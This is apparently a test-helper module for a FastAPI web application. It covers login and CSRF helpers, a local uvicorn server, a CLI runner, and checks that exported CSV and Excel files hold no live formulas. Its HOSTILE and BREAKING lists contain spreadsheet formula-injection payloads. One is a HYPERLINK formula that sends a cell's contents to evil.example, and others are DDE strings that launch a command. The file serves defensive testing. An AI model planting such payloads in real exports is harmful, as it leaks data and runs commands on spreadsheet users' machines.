"""Small helpers shared by route, page and concurrency tests."""

from __future__ import annotations

import os
import re
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager

import uvicorn
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import Engine, text

from tests.factories.auth import PASSWORD


def token_headers(client: TestClient, email: str) -> dict[str, str]:
    response = client.post("/api/v1/auth/token", json={"email": email, "password": PASSWORD})
    assert response.status_code == 200, response.text
    return {"Authorization": f"Bearer {response.json()['access_token']}"}


def csrf(html: str) -> str:
    match = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert match, "no CSRF token in the page"
    return match.group(1)


def login(client: TestClient, email: str) -> None:
    """Log in through the login form; the client keeps the session cookie."""
    page = client.get("/login")
    response = client.post("/login", data={"email": email, "password": PASSWORD, "csrf_token": csrf(page.text)},
                           follow_redirects=False)
    assert response.status_code == 303, response.text


# Text that a spreadsheet would evaluate if it reached a cell as it is: a formula, a DDE command, a tab or a
# carriage return in front of one.
HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "=1+1", "+SUM(1,1)", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-", "="]
# Text that begins harmlessly but carries a line break, after which a spreadsheet would start a new row.
BREAKING = ["ok\r=1+1", "ok\n=1+1", "ok\r\n@SUM(1)"]
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _plain_number(text: str) -> bool:
    # Written apart from the product's rule on purpose: "-3" or "+1.5" is a number to a spreadsheet.
    from decimal import Decimal, InvalidOperation

    if text != text.strip() or not text.lstrip("+-")[:1].isascii() or not text.lstrip("+-")[:1].isdigit():
        return False
    try:
        return Decimal(text).is_finite()
    except InvalidOperation:
        return False


def live_formula(value: object) -> bool:
    """A cell value read back from a file that a spreadsheet would evaluate."""
    return isinstance(value, str) and value.startswith(_TRIGGERS) and not _plain_number(value)


def csv_cells(content: bytes) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def live_csv_cells(content: bytes) -> list[str]:
    """The cells of a CSV file that would run as formulas."""
    return [value for row in csv_cells(content) for value in row if live_formula(value)]


def live_xlsx_cells(content: bytes) -> list[str]:
    """The cells of a workbook, on every sheet, that are formulas or text a spreadsheet would evaluate."""
    import io

    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    return [f"{sheet.title}!{c.coordinate}={c.value!r}" for sheet in workbook for row in sheet.iter_rows()
            for c in row if c.data_type == "f" or live_formula(c.value)]


@contextmanager
def served(app: FastAPI) -> Iterator[str]:
    """`app` served by uvicorn on a free loopback port, in a thread of the test process; yields its base URL.

    For what the test client cannot show: it sends a body whole, never as the chunks a client streams, and it
    bypasses the server, whose own log records what an application lets through. uvicorn configures no logging
    here (log_config=None), so its records reach pytest's caplog.
    """
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_config=None, access_log=False,
                                           lifespan="off"))
    thread = threading.Thread(target=server.run, name="crossroads-test-server", daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + 20
        while not server.started:
            assert thread.is_alive() and time.monotonic() < deadline, "the test server did not start"
            time.sleep(0.01)
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=10)


def run_cli(args: list[str], env: dict[str, str], stdin: str | None = None) -> subprocess.CompletedProcess:
    """`crossroads ARGS` in a process of its own, as a user runs it."""
    return subprocess.run([sys.executable, "-m", "crossroads.cli", *args], env={**os.environ, **env}, input=stdin,
                          capture_output=True, text=True, timeout=120)


def lock_awaited(engine: Engine, seconds: float = 3.0) -> bool:
    """Whether, within `seconds`, some PostgreSQL transaction waits for a lock another one holds."""
    with engine.connect() as watcher:
        for _ in range(int(seconds * 100)):
            if watcher.execute(text("SELECT count(*) FROM pg_locks WHERE NOT granted")).scalar_one():
                return True
            time.sleep(0.01)
    return False
